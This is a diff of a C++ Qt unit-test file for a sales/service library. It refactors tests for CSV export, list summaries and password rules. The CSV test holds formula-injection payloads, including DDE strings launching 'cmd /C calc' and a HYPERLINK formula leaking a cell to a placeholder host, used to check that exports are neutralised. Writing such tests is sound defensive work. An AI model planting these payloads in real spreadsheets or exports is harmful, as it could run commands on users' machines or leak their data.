@@ -1,9 +1,6 @@
-// The service library on the session's database, signed in as ANA: the environment (variables,
-// restricted options, the message box), the functions (look-ups, filling a list, the audit log,
-// keys sent) and the processes (notes and closings); the list's actions (the CSV and the copy,
-// fitting the columns, each view's layout, the summary by state with its dialog); passwords
-// (the rules of a new one, salespeople's checked where their hashes are, and those kept
-// enciphered before carried over to hashes under the key of the desk).
+// The service library on the session's database, signed in as ANA: the environment, the
+// functions, the processes (notes and closings), the list's actions and summary by state,
+// and passwords (the rules of a new one, hashes, and those kept enciphered before).
 #include "basedeprueba.h"
 #include "errores.h"
 #include "respuestas.h"
@@ -516,27 +513,20 @@ TEST_F(CierreOportunidadPostgreSQL, twoUsersCloseTheSameOpportunityAndOnlyTheFir
 TEST(AccionesLista, theCsvCarriesNoFormulas)
 {
     const QString larga = QString(Kit::ListModel::shownLength, u'x') + "fin";
-    const std::vector<std::pair<QString, QString>> casos = {
-        {"=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")",
-         "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\""},
-        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
-        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
-        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
-        {"\t=1+1", "'\t=1+1"},
-        {"\r=1+1", "\"'\r=1+1\""},
-        {"-1234.50", "-1234.50"},
-        {"-$1,234.50", "-$1,234.50"},
-        {"-$1,2+cmd|' /C calc'!A0", "'-$1,2+cmd|' /C calc'!A0"},
-        {"+7", "+7"},
-        {"-", "'-"},
-        {"a=b", "a=b"},
-        {larga, larga}};
     Kit::ListView lista;
-    for (const auto &[valor, esperado] : casos) {
-        SCOPED_TRACE(valor.left(40).toStdString());
-        lista.replaceContents({"=Folio"}, {{QString(), {valor}}});
-        EXPECT_EQ(textoCsv(lista), QStringLiteral("'=Folio\r\n") + esperado + QStringLiteral("\r\n"));
-    }
+    const auto csv = [&lista](const QString &celda) {
+        lista.replaceContents({"=Folio"}, {{QString(), {celda}}});
+        const QString texto = textoCsv(lista); // the header, a formula itself, goes out as text too
+        return texto.startsWith("'=Folio\r\n") && texto.endsWith("\r\n") ? texto.mid(9).chopped(2) : texto;
+    };
+    for (const QString celda : {"@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
+                                "-$1,2+cmd|' /C calc'!A0", "-"})
+        EXPECT_EQ(csv(celda), '\'' + celda) << celda.toStdString();
+    EXPECT_EQ(csv("=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")"),
+              "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\"");
+    EXPECT_EQ(csv("\r=1+1"), "\"'\r=1+1\"");
+    for (const QString &celda : {QString("-1234.50"), QString("-$1,234.50"), QString("+7"), QString("a=b"), larga})
+        EXPECT_EQ(csv(celda), celda) << celda.left(40).toStdString();
     EXPECT_EQ(textoTabulado(lista), "=Folio\n" + larga + "\n"); // the copy takes the long cell whole too
 }
 
@@ -640,7 +630,6 @@ TEST(ResumenEstados, groupsByStateInTheOrderOfTheStagesAddingTheAmountsThatAreNu
         SCOPED_TRACE(caso.resumen.toStdString());
         EXPECT_EQ(resume(caso.filas, caso.orden, caso.encabezados), caso.resumen);
     }
-    EXPECT_FALSE(Servicios::tieneColumnaEstado({"Folio", "Estatus", "Monto"}));
 }
 
 // Each column takes the width of its header and of the texts of the first rows, those beyond
@@ -767,11 +756,11 @@ TEST_F(MenuDeLista, exportingToCsvSavesTheChosenFileInUtf8WithBom)
 
     QFile archivo(ruta);
     ASSERT_TRUE(archivo.open(QIODevice::ReadOnly));
-    EXPECT_EQ(archivo.readAll(), QByteArray("\xEF\xBB\xBF") + textoCsv(lista).toUtf8());
-    EXPECT_EQ(textoCsv(lista), "Folio;Descripción;Monto\r\n"
-                               "F-2;\"Dice \"\"sí\"\"\";30.00\r\n"
-                               "F-3;\"Línea\nnueva\tcon tab\";20.00\r\n"
-                               "F-1;\"Uno; dos\";10.00\r\n");
+    EXPECT_EQ(archivo.readAll(), "\xEF\xBB\xBF"
+                                 "Folio;Descripción;Monto\r\n"
+                                 "F-2;\"Dice \"\"sí\"\"\";30.00\r\n"
+                                 "F-3;\"Línea\nnueva\tcon tab\";20.00\r\n"
+                                 "F-1;\"Uno; dos\";10.00\r\n");
     EXPECT_EQ(textoTabulado(lista), "Folio\tDescripción\tMonto\n"
                                     "F-2\tDice \"sí\"\t30.00\n"
                                     "F-3\tLínea nueva con tab\t20.00\n"
@@ -980,15 +969,9 @@ TEST_F(Contrasenas, aPasswordIsStoredAsAHashAndAShortBlankOrOverlongOneIsRefused
     EXPECT_EQ(errorDe([] { Servicios::ponContrasena("NADIE", "Una muy buena"); }), InvalidCall);
 
     // The limits count characters, not bytes.
-    const std::pair<QString, bool> casos[] = {{"", false},
-                                              {"   ", false},
-                                              {QString(12, ' '), false},
-                                              {"Nueve1234", false},
-                                              {QString(257, 'a'), false},
-                                              {"Diez123456", true},
-                                              {QString(256, u'ñ'), true},
-                                              {" con espacios ", true}};
-    for (const auto &[contrasena, aceptada] : casos) {
+    const QStringList rechazadas = {"", "   ", QString(12, ' '), "Nueve1234", QString(257, 'a')};
+    for (const QString &contrasena : rechazadas + QStringList{"Diez123456", QString(256, u'ñ'), " con espacios "}) {
+        const bool aceptada = !rechazadas.contains(contrasena);
         SCOPED_TRACE(contrasena.left(20).toStdString());
         const QString antes = guardadas();
         EXPECT_EQ(errorDe([&] { Servicios::ponContrasena("V'1", contrasena); }), aceptada ? 0 : InvalidCall);
